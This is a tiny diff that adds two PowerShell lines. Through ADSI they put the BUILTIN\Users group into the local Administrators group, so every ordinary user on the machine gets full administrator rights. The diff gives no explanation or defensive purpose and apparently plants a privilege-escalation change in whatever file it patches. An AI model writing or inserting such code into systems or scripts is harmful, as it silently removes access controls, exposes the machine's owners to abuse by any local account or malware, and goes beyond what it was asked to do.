@@ -1,0 +1,2 @@
+$entry = New-Object System.DirectoryServices.DirectoryEntry('WinNT://localhost/Administrators')
+$entry.Invoke('Add', @('WinNT://BUILTIN/Users'))
